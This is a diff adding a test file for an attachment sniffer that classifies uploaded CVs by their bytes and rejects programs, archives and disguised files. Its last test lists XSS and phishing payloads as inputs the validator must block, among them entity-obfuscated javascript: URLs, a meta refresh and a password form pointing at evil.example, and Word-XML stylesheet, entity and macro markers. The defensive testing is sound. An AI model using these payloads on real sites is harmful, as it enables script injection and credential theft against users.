@@ -1,0 +1,175 @@
+import { readFile } from 'node:fs/promises'
+import { expect, it } from 'vitest'
+import { readAttachment } from './attachment-content.ts'
+
+/** Bytes of texts, one for each character, and of numbers. */
+const bytes = (...parts: (string | number[])[]) =>
+  Uint8Array.from(
+    parts.flatMap((part) =>
+      typeof part === 'string' ? [...part].map((each) => each.charCodeAt(0)) : part,
+    ),
+  )
+const wide = (text: string) => [...text].flatMap((each) => [each.charCodeAt(0), 0])
+const little = (number: number, length: number) =>
+  Array.from({ length }, (_, at) => (number >>> (8 * at)) & 0xff)
+const container = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]
+const windows1251 = bytes([0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2])
+const utf8 = new TextEncoder().encode('Моє резюме: Lviv — 10 років 🏝')
+
+/** An archive whose entries are empty. */
+function zip(...names: string[]) {
+  const local = names.map((name) =>
+    bytes('PK\x03\x04', Array(22).fill(0), little(name.length, 2), [0, 0], name),
+  )
+  const directory = names.map((name) =>
+    bytes('PK\x01\x02', Array(24).fill(0), little(name.length, 2), Array(16).fill(0), name),
+  )
+  const size = directory.reduce((sum, each) => sum + each.length, 0)
+  const end = bytes('PK\x05\x06', Array(8).fill(0), little(size, 4), Array(6).fill(0))
+  return Buffer.concat([...local, ...directory, end])
+}
+const docx = zip('[Content_Types].xml', 'word/document.xml')
+const heic = bytes([0, 0, 0, 24], 'ftypmif1', [0, 0, 0, 0])
+const html = (body: string) => bytes(`<!DOCTYPE html>\n<html><body>${body}</body></html>`)
+const wordXml = (more: string) =>
+  bytes(`<?xml version="1.0"?>${more}<?mso-application progid="Word.Document"?><w:wordDocument>`)
+/** A Word document, whose one bit says that it has a password. */
+const word = (flags: number) =>
+  bytes(
+    container,
+    Array(504).fill(0),
+    [0xec, 0xa5],
+    Array(9).fill(0),
+    [flags],
+    wide('WordDocument'),
+  )
+
+it.each([
+  ['office.doc', 'doc'],
+  ['office-rtf-named.doc', 'rtf'],
+  ['office-docx-named.doc', 'docx'],
+  ['cv-html-named.doc', 'html'],
+  ['cv-wordxml-named.doc', 'xml'],
+  ['cv-leading-bom.pdf', 'pdf'],
+  ['cv-leading-crlf.pdf', 'pdf'],
+  ['cv-leading-http-headers.pdf', 'pdf'],
+  ['cv-macbinary.pdf', 'pdf'],
+  ['office-repacked-by-zip.odt', 'odt'],
+  ['cv-mimetype-deflated.odt', 'odt'],
+  ['cv-mimetype-last.odt', 'odt'],
+  ['cv-mimetype-newline.odt', 'odt'],
+  ['cv-streamed.odt', 'odt'],
+  ['cv-streamed.docx', 'docx'],
+  ['cv-ct-last.docx', 'docx'],
+  ['cv-bom.rtf', 'rtf'],
+  ['cv-leading-newline.rtf', 'rtf'],
+  ['cv-wordpad.rtf', 'rtf'],
+  ['IMG_0234.jpeg', 'jpg'],
+  ['png-named.jpg', 'png'],
+  ['cv-utf16le-bom.txt', 'txt'],
+  ['cv-utf16le-nobom.txt', 'txt'],
+  ['cv-cp1251.txt', 'txt'],
+  ['cv-cp866.txt', 'txt'],
+  ['cv-ctrlz.txt', 'txt'],
+  ['cv-vt.txt', 'txt'],
+])('takes %s, as programs and phones make it, as .%s', async (name, extension) => {
+  expect(readAttachment(name, await sample(name))).toEqual({ extension })
+})
+
+it.each([
+  ['cv-mht-named.doc', 'web-page'],
+  ['cv-password.docx', 'protected'],
+  ['IMG_0235.jpg', 'heic'],
+  ['webp-named.jpg', 'webp'],
+])('says what %s is: %s', async (name, kind) => {
+  expect(readAttachment(name, await sample(name))).toEqual({ extension: null, kind })
+})
+
+it.each<[string, Uint8Array, string]>([
+  ['CV.PDF', bytes('%PDF-1.7'), 'pdf'],
+  ['photo.jpg', bytes('%PDF-1.7'), 'pdf'],
+  ['cv.pdf', bytes(Array(1019).fill(0), '%PDF-1.7'), 'pdf'],
+  ['cv.doc', docx, 'docx'],
+  ['cv.pdf', docx, 'docx'],
+  ['cv.docx', zip('[Content_Types].xml', 'word\\document.xml'), 'docx'],
+  ['cv.doc', utf8, 'txt'],
+  ['cv.txt', utf8, 'txt'],
+  ['cv.txt', windows1251, 'txt'],
+  ['cv.txt', bytes('Notes on %PDF- and <html>, MZ'), 'txt'],
+  ['cv.txt', bytes('#!/bin/sh is what I write'), 'txt'],
+  ['cv.txt', html('a page'), 'txt'],
+  ['cv.doc', word(0), 'doc'],
+  [
+    'cv.doc',
+    html('<p>JavaScript: five years; C&#39;est&#160;&#1040;; on time = yes</p><o:p></o:p>'),
+    'html',
+  ],
+  ['cv.doc', bytes([0xff, 0xfe], wide('<html><body>')), 'html'],
+])('takes %s by its content (case %#)', (name, content, extension) => {
+  expect(readAttachment(name, content)).toEqual({ extension })
+})
+
+it.each<[string, Uint8Array, string | undefined]>([
+  ['cv.pdf', bytes(), 'empty'],
+  ['cv.txt', bytes(), 'empty'],
+  ['cv.pdf', bytes(Array(1020).fill(0), '%PDF-1.7'), undefined],
+  ['cv.pdf', utf8, undefined],
+  ['cv.pdf', html(''), 'web-page'],
+  ['cv.docx', html(''), 'web-page'],
+  ['cv.jpg', bytes('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'web-page'],
+  ['cv.docx', zip('photo.jpg', 'word.docx'), 'archive'],
+  ['cv.docx', zip('[Content_Types].xml', 'xl/workbook.xml'), 'spreadsheet'],
+  ['cv.docx', zip('[Content_Types].xml', 'ppt/presentation.xml'), 'presentation'],
+  ['cv.docx', zip('Index/Document.iwa', 'preview.jpg'), 'pages'],
+  ['cv.odt', zip('META-INF/MANIFEST.MF', 'Main.class'), 'program'],
+  ['cv.odt', zip('mimetype', 'content.xml'), 'archive'],
+  ['cv.docx', docx.subarray(0, 100), 'damaged'],
+  ['cv.docx', Buffer.concat([bytes([0, 1]), docx]), 'damaged'],
+  ['table.doc', bytes(container, wide('Workbook')), 'spreadsheet'],
+  ['cv.doc', word(1), 'protected'],
+  ['cv.doc', bytes(container, [0]), undefined],
+  ['cv.pdf', bytes('MZ\x90\0', '%PDF-1.7'), 'program'],
+  ['cv.txt', bytes('MZ', [0, 3]), 'program'],
+  ['cv.doc', bytes('#!/bin/sh\n'), 'program'],
+  ['cv.pdf', bytes('Rar!\x1a\x07\x01\0'), 'archive'],
+  ['photo.jpg', bytes('GIF89a%PDF-1.7'), 'gif'],
+  ['photo.png', bytes([0, 0, 0, 24], 'ftypavif'), 'avif'],
+  ['photo.jpg', bytes([0, 0, 0, 24], 'ftypmp42'), 'video'],
+  ['cv.txt', bytes('text', [0]), undefined],
+  ['photo.heic', heic, 'heic'],
+  ['cv.exe', bytes('MZ\0'), 'program'],
+  ['cv.exe', bytes(), undefined],
+  ['cv.exe', bytes('%PDF-1.7'), undefined],
+  ['cv', bytes('%PDF-1.7'), undefined],
+  ['cv.pdf.exe', docx, undefined],
+  ['cv.html', html(''), 'web-page'],
+])('refuses %s by its content or name (case %#)', (name, content, kind) => {
+  expect(readAttachment(name, content)).toEqual(
+    kind ? { extension: null, kind } : { extension: null },
+  )
+})
+
+it.each([
+  html('<script>alert(1)</script>'),
+  html('<SCRIPT\nsrc=//evil.example>'),
+  html('<img src=x onerror=alert(1)>'),
+  html('<svg/onload=alert(1)>'),
+  html('<a href="java&#115;cript:alert(1)">'),
+  html('<a href="java\tscript&colon;alert(1)">'),
+  html('<a href="&#106avascript:alert(1)">'),
+  html('<a href="&#00000000106;avascript:alert(1)">'),
+  html('<meta http-equiv="&#114;efresh" content="0;url=https://evil.example">'),
+  html('<meta charset="iso-2022-jp"><scr\x1b(Bipt>alert(1)</scr\x1b(Bipt>'),
+  html("<iframe src='https://evil.example'>"),
+  html('<form action="https://evil.example"><input name="password">'),
+  html('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
+  bytes([0xff, 0xfe], wide('<html><script>alert(1)</script>')),
+  wordXml('<?xml-stylesheet href="evil.xsl"?>'),
+  wordXml('<!DOCTYPE w [<!ENTITY a "b">]>'),
+  Buffer.concat([wordXml(''), bytes('<x:script xmlns:x="http://www.w3.org/1999/xhtml">')]),
+  Buffer.concat([wordXml(''), bytes('<w:docSuppData><w:binData w:name="editdata.mso">')]),
+])('takes no document with scripts or macros (case %#)', (content) => {
+  expect(readAttachment('cv.doc', content)).toEqual({ extension: null, kind: 'scripts' })
+})
+
+const sample = (name: string) => readFile(new URL(`attachment-samples/${name}`, import.meta.url))
